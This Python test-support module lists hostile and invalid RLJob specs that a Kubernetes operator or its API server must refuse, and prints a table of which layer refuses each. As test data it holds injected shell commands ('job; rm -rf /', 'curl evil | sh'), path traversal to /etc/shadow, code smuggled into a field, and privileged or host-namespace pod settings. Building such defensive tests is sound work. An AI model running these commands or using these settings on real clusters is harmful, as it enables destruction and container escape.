"""Hostile and invalid RLJob specs: each must be refused, by the API server (CRD schema + CEL) or the operator.

`python -m support.hostile` prints the table docs/reliability.md carries (a test keeps the two in step).
"""

from __future__ import annotations

import sys
from typing import Any

from support.specs import minimal_job, set_path

# layers: "api" = refused by the CRD's schema or CEL at kubectl apply (the operator refuses it too);
# "operator" = the CRD keeps pod templates free-form, so the operator refuses it: Failed/InvalidSpec, no pods
Case = tuple[str, str, dict[str, Any], str, str]  # (id, what it tries, mutations, field path, layer)


def _tpl(role: str, template: dict[str, Any]) -> dict[str, Any]:
    return {f"spec.{role}.template": template}


def _container(**fields: Any) -> dict[str, Any]:
    return {"spec": {"containers": [{"name": "rollout", **fields}]}}


HOSTILE: list[Case] = [
    ("budget-huge", "a token budget of 10^18", {"spec.c3po.tokenBudget": 10**18}, "spec.c3po.tokenBudget", "api"),
    (
        "prompts-huge",
        "a billion prompts per step",
        {"spec.task.promptsPerStep": 10**9},
        "spec.task.promptsPerStep",
        "api",
    ),
    ("steps-zero", "zero training steps", {"spec.algorithm.steps": 0}, "spec.algorithm.steps", "api"),
    ("replicas-float", "1.5 trainers", {"spec.trainer.replicas": 1.5}, "spec.trainer.replicas", "api"),
    (
        "lr-negative",
        "a negative learning rate",
        {"spec.algorithm.learningRate": -1.0},
        "spec.algorithm.learningRate",
        "api",
    ),
    (
        "temperature-inf",
        "infinite temperature",
        {"spec.task.temperature": float("inf")},
        "spec.task.temperature",
        "api",
    ),
    ("model-string", "a string where an object goes", {"spec.model": "tiny"}, "spec.model", "api"),
    ("task-list", "a list where an object goes", {"spec.task": []}, "spec.task", "api"),
    ("dataset-null", "a null required field", {"spec.task.dataset": None}, "spec.task.dataset", "api"),
    ("image-huge", "a 5000-character image", {"spec.image": "a" * 5000}, "spec.image", "api"),
    ("image-empty", "an empty image", {"spec.image": ""}, "spec.image", "api"),
    ("name-shell", "shell in the name", {"metadata.name": "job; rm -rf /"}, "metadata.name", "api"),
    ("name-newline", "a newline in the name", {"metadata.name": "job\nx"}, "metadata.name", "api"),
    ("name-unicode", "non-ASCII in the name", {"metadata.name": "jöb"}, "metadata.name", "api"),
    (
        "claim-traversal",
        "a path in a claim name",
        {"spec.model": {"volume": "data/../../etc", "path": "m"}},
        "spec.model.volume",
        "api",
    ),
    (
        "model-path-traversal",
        "a model path out of its volume",
        {"spec.model": {"volume": "models", "path": "../../etc"}},
        "spec.model.path",
        "api",
    ),
    (
        "dataset-path-traversal",
        "a dataset path out of its volume",
        {"spec.task.dataset": {"volume": "data", "path": "x/../../../etc/shadow"}},
        "spec.task.dataset.path",
        "api",
    ),
    ("unknown-spec-field", "an unknown top-level field", {"spec.privileged": True}, "spec.privileged", "api"),
    (
        "unknown-nested",
        "an unknown nested field",
        {"spec.algorithm.icepop.gamma": 1},
        "spec.algorithm.icepop.gamma",
        "api",
    ),
    (
        "reward-injection",
        "code in the reward name",
        {"spec.task.reward": "numeric; import os"},
        "spec.task.reward",
        "api",
    ),
    ("builtin-traversal", "a path as a built-in model", {"spec.model.builtin": "../tiny"}, "spec.model.builtin", "api"),
    ("dtype-float64", "an unsupported dtype", {"spec.model.dtype": "float64"}, "spec.model.dtype", "api"),
    (
        "field-huge",
        "a 300-character JSONL key",
        {"spec.task.dataset.promptField": "p" * 300},
        "spec.task.dataset.promptField",
        "api",
    ),
    (
        "every-steps-zero",
        "checkpoint every 0 steps",
        {"spec.checkpoint.everySteps": 0},
        "spec.checkpoint.everySteps",
        "api",
    ),
    ("suspend-int", "1 for a boolean", {"spec.suspend": 1}, "spec.suspend", "api"),
    ("template-list", "a list as a pod template", {"spec.rollout.template": ["x"]}, "spec.rollout.template", "api"),
    (
        "privileged",
        "a privileged container",
        _tpl("rollout", _container(securityContext={"privileged": True})),
        "spec.rollout.template.spec.containers[0].securityContext.privileged",
        "operator",
    ),
    (
        "escalation",
        "privilege escalation",
        _tpl("rollout", _container(securityContext={"allowPrivilegeEscalation": True})),
        "spec.rollout.template.spec.containers[0].securityContext.allowPrivilegeEscalation",
        "operator",
    ),
    (
        "cap-sys-admin",
        "CAP_SYS_ADMIN",
        _tpl("rollout", _container(securityContext={"capabilities": {"add": ["SYS_ADMIN"]}})),
        "spec.rollout.template.spec.containers[0].securityContext.capabilities.add",
        "operator",
    ),
    (
        "container-root",
        "a container running as root",
        _tpl("rollout", _container(securityContext={"runAsUser": 0})),
        "spec.rollout.template.spec.containers[0].securityContext.runAsUser",
        "operator",
    ),
    (
        "pod-root",
        "runAsNonRoot: false for the pod",
        _tpl("trainer", {"spec": {"securityContext": {"runAsNonRoot": False}}}),
        "spec.trainer.template.spec.securityContext.runAsNonRoot",
        "operator",
    ),
    (
        "host-network",
        "the node's network namespace",
        _tpl("controller", {"spec": {"hostNetwork": True}}),
        "spec.controller.template.spec.hostNetwork",
        "operator",
    ),
    (
        "host-pid",
        "the node's process namespace",
        _tpl("trainer", {"spec": {"hostPID": True}}),
        "spec.trainer.template.spec.hostPID",
        "operator",
    ),
    (
        "host-path",
        "a hostPath volume of /",
        _tpl("rollout", {"spec": {"volumes": [{"name": "root", "hostPath": {"path": "/"}}]}}),
        "spec.rollout.template.spec.volumes[0].hostPath",
        "operator",
    ),
    (
        "command-override",
        "a shell as the command",
        _tpl("rollout", _container(command=["sh", "-c", "curl evil | sh"])),
        "spec.rollout.template.spec.containers[0].command",
        "operator",
    ),
    (
        "args-override",
        "extra arguments",
        _tpl("rollout", _container(args=["--debug"])),
        "spec.rollout.template.spec.containers[0].args",
        "operator",
    ),
    (
        "env-token-override",
        "pointing the token file elsewhere",
        _tpl("rollout", _container(env=[{"name": "KUBERL_TOKEN_FILE", "value": "/dev/null"}])),
        "spec.rollout.template.spec.containers[0].env[0].name",
        "operator",
    ),
    (
        "label-job-override",
        "hijacking another job's selector",
        _tpl("rollout", {"metadata": {"labels": {"kuberl.io/job": "other"}}}),
        "spec.rollout.template.metadata.labels.kuberl.io/job",
        "operator",
    ),
    (
        "label-managed-by",
        "claiming another manager",
        _tpl("trainer", {"metadata": {"labels": {"app.kubernetes.io/managed-by": "me"}}}),
        "spec.trainer.template.metadata.labels.app.kubernetes.io/managed-by",
        "operator",
    ),
    (
        "restart-always",
        "kubelet restarts behind the operator's back",
        _tpl("rollout", {"spec": {"restartPolicy": "Always"}}),
        "spec.rollout.template.spec.restartPolicy",
        "operator",
    ),
    (
        "template-spec-string",
        "a string as the pod spec",
        _tpl("rollout", {"spec": "privileged"}),
        "spec.rollout.template.spec",
        "operator",
    ),
    (
        "init-privileged",
        "a privileged init container",
        _tpl("trainer", {"spec": {"initContainers": [{"name": "i", "securityContext": {"privileged": True}}]}}),
        "spec.trainer.template.spec.initContainers[0].securityContext.privileged",
        "operator",
    ),
    (
        "container-string",
        "a string as a container",
        _tpl("rollout", {"spec": {"containers": ["rollout"]}}),
        "spec.rollout.template.spec.containers[0]",
        "operator",
    ),
    (
        "containers-string",
        "a string as the container list",
        _tpl("rollout", {"spec": {"containers": "oops"}}),
        "spec.rollout.template.spec.containers",
        "operator",
    ),
    (
        "memory-lots",
        "a memory limit that is no quantity",
        _tpl("trainer", {"spec": {"containers": [{"name": "trainer", "resources": {"limits": {"memory": "lots"}}}]}}),
        "spec.trainer.template.spec.containers[0].resources.limits.memory",
        "operator",
    ),
    (
        "template-unknown-field",
        "a misspelt pod field",
        _tpl("controller", {"spec": {"nodeSelectr": {"pool": "cpu"}}}),
        "spec.controller.template.spec.nodeSelectr",
        "operator",
    ),
    (
        "sidecar-nameless",
        "a sidecar without a name",
        _tpl("rollout", {"spec": {"containers": [{"name": "rollout"}, {"image": "busybox"}]}}),
        "spec.rollout.template.spec.containers[1].name",
        "operator",
    ),
]


LAYER_NAMES = {"api": "API server (CRD schema/CEL)", "operator": "operator (InvalidSpec)"}


def hostile_doc(mutations: dict[str, Any]) -> dict[str, Any]:
    doc = minimal_job()
    for path, value in mutations.items():
        doc = set_path(doc, path, value)
    return doc


def verdicts(doc: dict[str, Any], schema: dict[str, Any]) -> tuple[dict[str, str], dict[str, str]]:
    """({path: message} the emulated API server refuses, {path: message} the operator's validation refuses)."""
    from kuberl_operator.api.validate import validate_document
    from support.schema_server import admit

    server = {path or "metadata.name": message for path, message in admit(doc, schema)}
    return server, {p.path: p.message for p in validate_document(doc)}


def table_markdown(schema: dict[str, Any]) -> str:
    """The docs/reliability.md table: every case, who refuses it, the field and the operator's message."""
    lines = ["| Case | What it tries | Refused by | Field | Message |", "|---|---|---|---|---|"]
    for case, what, mutations, field, layer in HOSTILE:
        _, ours = verdicts(hostile_doc(mutations), schema)
        message = ours.get(field, "?").replace("|", "/").replace("\n", " ")
        lines.append(f"| `{case}` | {what} | {LAYER_NAMES[layer]} | `{field}` | {message} |")
    return "\n".join(lines)


if __name__ == "__main__":
    from kuberl_operator.api.crd import openapi_schema

    sys.stdout.write(table_markdown(openapi_schema()) + "\n")
